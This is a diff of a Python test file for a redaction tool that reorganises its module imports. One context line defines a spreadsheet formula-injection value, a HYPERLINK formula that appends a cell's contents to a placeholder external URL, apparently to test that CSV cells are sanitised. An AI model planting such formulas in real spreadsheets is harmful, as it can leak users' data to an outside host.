@@ -11,11 +11,11 @@ from pathlib import Path
 
 import pytest
 
-from redactkit.exemption_index import index_csv, write_index
-from redactkit.fileio import csv_cell, public_file_mode
+from redactkit._fileio import csv_cell, public_file_mode
+from redactkit.batch.outputs import summary_csv
 from redactkit.model import Rect, Redaction
-from redactkit.packet_outputs import summary_csv
 from redactkit.report import RedactionLog
+from redactkit.review.exemption_index import index_csv, write_index
 
 FORMULA = '=HYPERLINK("https://example.invalid/?q="&A1,"Click")'
 
